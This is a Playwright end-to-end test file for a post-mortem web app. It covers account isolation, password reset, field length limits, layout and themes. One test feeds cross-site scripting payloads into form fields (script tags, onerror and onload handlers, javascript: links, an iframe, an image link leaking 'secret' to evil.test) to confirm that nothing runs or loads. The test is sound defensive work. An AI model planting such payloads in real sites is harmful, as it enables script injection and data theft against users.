import { expect } from '@playwright/test';
import { codeFor } from './account';
import { chooseTheme, newPostMortem, openAs, openAsNew, saved, signIn, signUp } from './person';
import { test } from './screenTest';

const PASSWORD = 'Tap-tap-tapping-9';

test('a new person signs up with the code from the terminal and sees nothing of anybody else', async ({
  browser,
}) => {
  const owner = await (await browser.newContext()).newPage();
  await openAs(owner);
  const address = await newPostMortem(owner, 'Private to its owner');
  await saved(owner);

  const stranger = await (await browser.newContext()).newPage();
  await signUp(stranger, { email: 'stranger@nevermore.local', password: PASSWORD });
  await expect(stranger.getByText('Your address is confirmed, and you are signed in.')).toBeVisible();
  await expect(stranger.getByRole('link', { name: 'Private to its owner' })).toBeHidden();
  await stranger.goto(address);
  await expect(stranger.getByText('Private to its owner')).toBeHidden();
  await expect(stranger.getByLabel('Description', { exact: true })).toBeHidden();
  await expect(stranger.getByRole('link', { name: /post-mortems/i }).first()).toBeVisible();
  await owner.context().close();
  await stranger.context().close();
});

test('somebody who forgot the password gets in with a code and a new one, and signs out', async ({
  page,
}) => {
  const email = 'forgetful@nevermore.local';
  await signUp(page, { email, password: PASSWORD });
  await page.getByRole('button', { name: 'Account' }).click();
  await page
    .getByRole('button', { name: /sign out/i })
    .or(page.getByRole('menuitem', { name: /sign out/i }))
    .click();
  await page.getByRole('button', { name: 'Forgot your password?' }).click();
  await page.getByLabel('Email').fill(email);
  await page.getByRole('button', { name: 'Send code' }).click();
  await expect(page.getByRole('heading', { level: 2, name: 'Choose a new password' })).toBeVisible();
  await expect(page.getByText('the code is in the terminal where npm start runs')).toBeVisible();
  await page.getByLabel(/^Code/).fill(await codeFor(email, 'password reset'));
  await page.getByLabel('New Password').fill(`${PASSWORD}-again`);
  await page.getByLabel('Confirm Password').fill(`${PASSWORD}-again`);
  await page.getByRole('button', { name: 'Submit' }).click();
  await expect(page.getByText('Your password is changed. Sign in with the new one.')).toBeVisible();
  await signIn(page, { email, password: `${PASSWORD}-again` });
});

test('hostile Markdown in any field runs nothing and loads nothing from elsewhere', async ({ page }) => {
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    const { hostname } = new URL(request.url());
    if (!['localhost', '127.0.0.1'].includes(hostname) && !request.url().startsWith('data:'))
      elsewhere.push(request.url());
  });
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs++;
    void dialog.dismiss();
  });
  const attack = [
    '<img src=https://evil.test/a.png onerror=alert(1)><script>alert(2)</script>',
    '![leak](https://evil.test/b.png?q=secret) [click](javascript:alert(3)) <iframe src="https://evil.test"></iframe>',
    '<svg onload=alert(4)> [x]: https://evil.test/c "t" ![y][x]',
  ].join('\n\n');
  await openAs(page);
  await newPostMortem(page, 'Attacked <img src=x onerror=alert(5)>');
  await page.getByLabel('Description', { exact: true }).fill(attack);
  await page.getByRole('button', { name: 'Preview description' }).click();
  await page.getByRole('button', { name: 'Enhance description' }).click();
  await expect(page.getByRole('button', { name: 'Accept' })).toBeVisible();
  await saved(page);
  await page.goto('/');
  await expect(page.getByRole('link', { name: /Attacked/ })).toBeVisible();
  expect([elsewhere, dialogs]).toEqual([[], 0]);
  expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
});

test('a section over 20,000 characters is named as too long, and the text stays', async ({ page }) => {
  await openAs(page);
  await newPostMortem(page, 'Too long');
  const field = page.getByLabel('Summary', { exact: true });
  await field.fill('x'.repeat(20_001));
  await expect(page.getByText(/20,000/).first()).toBeVisible();
  await expect(field).toHaveValue('x'.repeat(20_001));
});

test('the longest address stands whole in the account box, on a phone too', async ({ page }) => {
  const email = `${'on-call.engineer.of.the.week.'.repeat(2)}x@payments-and-ledgers.nevermore.local`;
  await openAsNew(page, { email, password: PASSWORD });
  for (const width of [1280, 360]) {
    await page.setViewportSize({ width, height: 800 });
    await page.getByRole('button', { name: 'Account' }).click();
    const shown = page.getByText(email);
    await expect(shown).toBeVisible();
    const cut = await shown.evaluate(({ parentElement }) => {
      for (let box = parentElement; box; box = box.parentElement) {
        if (box.scrollWidth > box.clientWidth && box.clientWidth > 0) return box.className;
      }
      return '';
    });
    expect(cut).toBe('');
    await page.keyboard.press('Escape');
  }
});

test('the theme is remembered', async ({ page }) => {
  await openAs(page);
  await chooseTheme(page, 'Addams');
  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'addams');
});
